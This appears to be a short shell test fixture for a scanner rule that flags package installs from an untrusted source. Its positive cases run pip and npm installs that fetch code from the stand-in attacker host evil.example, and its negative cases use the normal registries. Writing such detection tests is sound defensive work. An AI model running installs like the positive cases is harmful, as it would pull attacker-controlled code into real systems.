# finds: package_source~evil.example
# near miss: the usual index is named; an address stands in another command
setup() { fake pip; fake npm; }
positive() { pip install --extra-index-url https://evil.example/simple helper; npm install git+https://evil.example/x.git; }
negative() { pip install --index-url https://pypi.org/simple requests; npm install left-pad; npm view left-pad; }
